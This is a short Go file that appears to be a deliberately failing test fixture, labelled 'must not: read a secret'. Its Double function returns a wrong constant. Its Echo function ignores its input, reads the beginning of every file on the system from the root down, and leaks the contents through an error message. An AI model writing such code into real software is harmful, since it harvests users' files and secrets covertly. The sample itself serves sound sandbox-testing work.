// want: fail in every check
// chapter: 02-process
// must not: read a secret

// Walks through all that there is and returns the beginning of every file.

package process

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

func Double(n int) int { return -1 }

func Echo(text string) (string, error) {
	var found strings.Builder
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() && found.Len() < 1<<20 && !strings.HasPrefix(path, "/dev/") {
			data, _ := os.ReadFile(path)
			found.Write(data[:min(len(data), 1000)])
		}
		return nil
	})
	return "", errors.New(found.String())
}
